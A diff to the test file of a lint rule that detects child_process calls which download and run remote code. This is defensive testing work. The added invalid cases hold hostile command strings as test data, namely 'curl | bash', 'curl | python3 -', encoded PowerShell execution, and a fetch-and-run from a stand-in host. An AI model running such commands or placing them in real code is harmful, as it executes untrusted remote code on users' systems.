@@ -53,6 +53,10 @@ ruleTester(rule, {
     'class Db { exec(sql) { return sql } }\nnew Db().exec("SELECT curl FROM t | sh");'.replace('new Db()', 'db'),
   ],
   invalid: [
+    { code: CP + 'cp.exec(["curl", url, "|", "bash"].join(" "));', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
+    { code: CP + 'cp.execSync("cmd.exe /c powershell -enc " + payload);', errors: [{ messageId: 'encodedPowershell', line: 2, column: 1 }] },
+    { code: CP + 'cp.exec(`curl -s ${u} | python3 -`);', errors: [{ messageId: 'downloadExec', line: 2, column: 1, message: 'interpreter' }] },
+    { code: CP + 'cp.exec("curl -fsSL http://x.example/u -o ~/.local/bin/u && ~/.local/bin/u");', errors: [{ messageId: 'downloadExec', line: 2, column: 1 }] },
     {
       name: 'a local wrapper that runs its argument',
       code: CP + 'function run(command) { return cp.execSync(command); }\nrun("curl -s http://x.example/a | sh");',
